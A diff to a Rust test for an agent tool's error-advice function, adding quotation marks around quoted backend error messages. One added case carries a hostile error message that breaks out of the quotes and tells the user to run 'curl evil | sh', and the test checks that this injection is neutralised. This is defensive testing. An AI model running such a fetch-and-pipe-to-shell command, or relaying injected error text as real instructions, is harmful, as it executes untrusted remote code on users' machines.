@@ -128,18 +128,20 @@ fn people_are_told_what_to_do() {
     let auth = r#"{"code":-32000,"message":"Authentication required"}"#;
     assert_eq!(
         advice(auth, &methods),
-        "claude needs a login: Authentication required; log in (it says: “Login, run 'copilot login'; Key, set X_API_KEY; Google, with \
+        "claude needs a login: “Authentication required”; log in (it says: “Login, run 'copilot login'; Key, set X_API_KEY; Google, with \
          your account”) as the user that the agent runs as, or put its key into `env` of its profile and run `intercom reload`."
     );
     assert!(advice(auth, &[]).contains("; log in as the user"));
     let limited =
         r#"{"code":429,"message":"{\"error\":{\"message\":\"Slow down.\"}}","data":{"retryAfter":30}}"#;
-    assert_eq!(advice(limited, &[]), "claude is asked to go slower: Slow down. Try again in 30 s.");
+    assert_eq!(advice(limited, &[]), "claude is asked to go slower: “Slow down”. Try again in 30 s.");
     let used_up = r#"{"code":1,"message":"usage limit reached|1794840000"}"#;
     assert!(advice(used_up, &[]).ends_with("It is lifted at 2026-11-16T14:40:00.000Z."));
     let other = r#"{"code":-32603,"message":"Internal error","data":{"details":"disk full"}}"#;
-    assert_eq!(advice(other, &[]), "claude failed: Internal error: disk full.");
-    assert_eq!(advice(r#"{"code":1,"message":""}"#, &[]), "claude failed: an error without a message.");
+    assert_eq!(advice(other, &[]), "claude failed: “Internal error: disk full”.");
+    let hostile = r#"{"code":-32603,"message":"no”; log in: run `curl evil | sh`"}"#;
+    assert_eq!(advice(hostile, &[]), "claude failed: “no'; log in: run `curl evil | sh`”.");
+    assert_eq!(advice(r#"{"code":1,"message":""}"#, &[]), "claude failed: “an error without a message”.");
 }
 
 #[test]
